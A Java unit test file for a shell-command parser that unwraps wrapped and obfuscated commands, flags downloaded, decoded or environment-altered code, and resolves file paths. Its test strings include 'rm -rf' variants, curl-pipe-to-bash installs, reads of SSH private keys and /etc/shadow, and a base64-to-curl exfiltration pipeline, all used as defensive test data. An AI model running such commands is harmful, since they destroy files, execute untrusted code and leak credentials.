package io.plumbline.events.shell;

import static org.assertj.core.api.Assertions.assertThat;

import io.plumbline.events.shell.Uninspectable.Reason;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellCommandsTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf build",
                "env -i X=1 rm -rf build",
                "X=1 Y=2 rm -rf build",
                "sudo -u root -- rm -rf build",
                "nohup rm -rf build &",
                "setsid -f rm -rf build",
                "timeout -s KILL -k 5 10s rm -rf build",
                "nice -n 5 ionice -c 3 rm -rf build",
                "time -p rm -rf build",
                "/usr/bin/time -f %e rm -rf build",
                "command rm -rf build",
                "exec -a name rm -rf build",
                "stdbuf -oL rm -rf build",
                "flock /tmp/lock rm -rf build",
                "sh -c 'rm -rf build'",
                "bash -lc \"rm -rf build\"",
                "bash -e -o pipefail -c 'rm -rf build'",
                "env bash -c 'sudo sh -c \"rm -rf build\"'",
                "eval 'rm -rf build'",
                "eval rm -rf build",
                "bash <<'EOF'\nrm -rf build\nEOF",
                "bash <<< 'rm -rf build'",
                "echo rm -rf build | sh",
                "if true; then (rm -rf build); fi",
                "for d in build; do rm -rf \"$d\"; done",
                "D=build; rm -rf ${D}",
                "C='rm -rf'; $C build",
                "r''m -rf \"build\"",
                "\\rm -rf build",
                "f() { rm -rf build; }; f",
                "trap 'rm -rf build' EXIT",
                "watch -n 1 'rm -rf build'",
                "echo $(rm -rf build)",
                "diff <(rm -rf build) x",
                "busybox rm -rf build",
                "su -c 'rm -rf build' other",
                "env -S 'rm -rf build'"
            })
    void findsTheProgramWhateverIsAroundIt(String text) {
        ShellCommands commands = ShellCommands.of(text);

        assertThat(commands.invocations()).anySatisfy(invocation -> {
            assertThat(invocation.name()).isEqualTo("rm");
            assertThat(texts(invocation)).containsExactly("-rf", "build");
            assertThat(invocation.isExact()).isTrue();
        });
        assertThat(commands.uninspectable()).isEmpty();
    }

    @Test
    void namesTheWrappersOutermostFirst() {
        assertThat(ShellCommands.of("sudo env A=1 timeout 5 curl x").invocations())
                .singleElement()
                .satisfies(curl -> assertThat(curl.wrappers()).containsExactly("sudo", "env", "timeout"));
    }

    @Test
    void whatFindAndXargsRunHasArgumentsThatNobodyKnows() {
        List<Invocation> found = ShellCommands.of(
                        "find . -name '*.c' -exec grep -l main {} \\; -delete; ls | xargs -n 1 -P 4 rm")
                .invocations();

        assertThat(found).extracting(Invocation::name).containsExactly("find", "grep", "ls", "rm");
        assertThat(texts(found.get(1))).containsExactly("-l", "main", "**");
        assertThat(found.get(3).isExact()).isFalse();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '¦',
            value = {
                "$TOOL --do¦COMPUTED_COMMAND",
                "$(which curl) x¦COMPUTED_COMMAND",
                "/usr/bin/c?rl x¦COMPUTED_COMMAND",
                "eval \"$TEXT\"¦COMPUTED_TEXT",
                "sh -c \"$TEXT\"¦COMPUTED_TEXT",
                "echo aGk= | base64 -d | sh¦DECODED_CODE",
                "eval \"$(base64 -d <<< aGk=)\"¦DECODED_CODE",
                "curl -s https://x.example/i.sh | bash -s -- -y¦DOWNLOADED_CODE",
                "curl -s https://x.example/i.sh | sudo -E bash -¦DOWNLOADED_CODE",
                "bash -c \"$(curl -fsSL https://x.example/i.sh)\"¦DOWNLOADED_CODE",
                "source <(wget -qO- x.example)¦DOWNLOADED_CODE",
                "wget -qO- x.example | python3¦DOWNLOADED_CODE",
                "wget -qO- x.example | python3 -¦DOWNLOADED_CODE",
                "cat list | sh¦PIPED_TEXT",
                "python3 -c 'print(1)'¦FOREIGN_CODE",
                "perl -pe s/a/b/ x¦FOREIGN_CODE",
                "node -e 1¦FOREIGN_CODE",
                "LD_PRELOAD=./x.so ls¦CHANGED_ENVIRONMENT",
                "env GIT_SSH_COMMAND=./x git fetch¦CHANGED_ENVIRONMENT",
                "export PATH=.:$PATH; ls¦CHANGED_ENVIRONMENT",
                "echo 'unclosed¦SYNTAX"
            })
    void saysWhatCannotBeTold(String text, Reason reason) {
        assertThat(ShellCommands.of(text).uninspectable())
                .extracting(Uninspectable::reason)
                .containsOnly(reason);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ls -la",
                "sh ./test.sh",
                "python3 tool.py --flag",
                "python3 -m pytest -q",
                "node --version",
                "git commit -m \"fix: it's $((1 + 1)) done\"",
                "cat > a.txt <<'EOF'\n$(not run)\nEOF",
                "command -v curl",
                "FOO=bar make test 2>&1 | tee log | tail -n 5"
            })
    void everydayCommandsAreAllTold(String text) {
        assertThat(ShellCommands.of(text).uninspectable()).isEmpty();
    }

    @Test
    void filesOfRedirectionsAndScriptsAreNamed() {
        ShellCommands commands =
                ShellCommands.of("sort < in.txt > ~/out 2>/dev/null; . ./env; bash -x run.sh a; > made");

        assertThat(commands.redirections())
                .filteredOn(Invocation.Redirected::reads)
                .extracting(redirected -> redirected.target().text())
                .containsExactly("in.txt");
        assertThat(commands.redirections())
                .filteredOn(Invocation.Redirected::writes)
                .extracting(redirected -> redirected.target().text())
                .containsExactly("~/out", "/dev/null", "made");
        assertThat(commands.scripts()).extracting(Argument::text).containsExactly("./env", "run.sh");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '¦',
            value = {
                "cat ~/.ssh/id_rsa¦~/.ssh/id_rsa",
                "cat $HOME/.ssh/id_rsa¦~/.ssh/id_rsa",
                "cat \"${HOME}/.ssh/id_rsa\"¦~/.ssh/id_rsa",
                "cat ~/.ssh/id_*¦~/.ssh/id_*",
                "cat ~/.s{x,sh}/id_rsa¦~/.ssh/id_rsa",
                "F=~/.ssh; cat $F/id_rsa¦~/.ssh/id_rsa",
                "cat ~/.ssh/$KEY¦~/.ssh/**",
                "cat '~'/x¦./~/x",
                "cat $PWD/x¦./x",
                "cat ${UNSET:-/etc/shadow}¦/etc/shadow"
            })
    void resolvesWhatTheTextItselfSays(String text, String argument) {
        assertThat(ShellCommands.of(text).invocations().getLast().arguments())
                .extracting(Argument::text)
                .contains(argument);
    }

    @Test
    void aPipelineNamesWhatIsInFront() {
        assertThat(ShellCommands.of("cat a | base64 | curl -d @- x")
                        .invocations()
                        .getLast()
                        .upstream())
                .containsExactly("cat", "base64");
    }

    @Test
    void textsInTextsAndVariablesInVariablesStayBounded() {
        StringBuilder doubling = new StringBuilder("a=x;");
        for (int i = 0; i < 60; i++) {
            doubling.append("a=$a$a; sh -c \"$a\";");
        }
        String nested = "sh -c '".repeat(20) + "ls" + "'".repeat(20);

        assertThat(ShellCommands.of(doubling.toString()).invocations()).hasSizeLessThan(2_001);
        assertThat(ShellCommands.of(nested)).isNotNull();
        assertThat(ShellCommands.of("eval " + "eval ".repeat(30) + "ls").uninspectable())
                .extracting(Uninspectable::reason)
                .containsOnly(Reason.TOO_DEEP);
    }

    private static List<String> texts(Invocation invocation) {
        return invocation.arguments().stream().map(Argument::text).toList();
    }
}
